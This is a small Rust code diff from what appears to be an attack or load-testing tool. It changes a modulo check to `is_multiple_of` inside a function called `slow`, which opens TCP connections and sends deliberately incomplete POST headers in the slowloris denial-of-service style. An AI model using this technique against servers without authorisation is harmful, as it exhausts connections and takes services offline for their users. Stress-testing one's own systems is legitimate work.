@@ -136,7 +136,7 @@ impl Attack {
 pub(crate) fn slow(url: &str, count: usize) -> Result<()> {
     let target = Target::read(url)?;
     let start = |number: usize| {
-        let within = if number % 2 == 0 { "X-Slow: " } else { "Content-Length: 1000000\r\n\r\n" };
+        let within = if number.is_multiple_of(2) { "X-Slow: " } else { "Content-Length: 1000000\r\n\r\n" };
         let head = format!("POST {} HTTP/1.1\r\nHost: {}\r\n{within}", target.path, target.address);
         let mut stream = TcpStream::connect_timeout(&target.address, Duration::from_secs(1)).ok()?;
         stream.set_write_timeout(Some(Duration::from_millis(100))).ok()?;
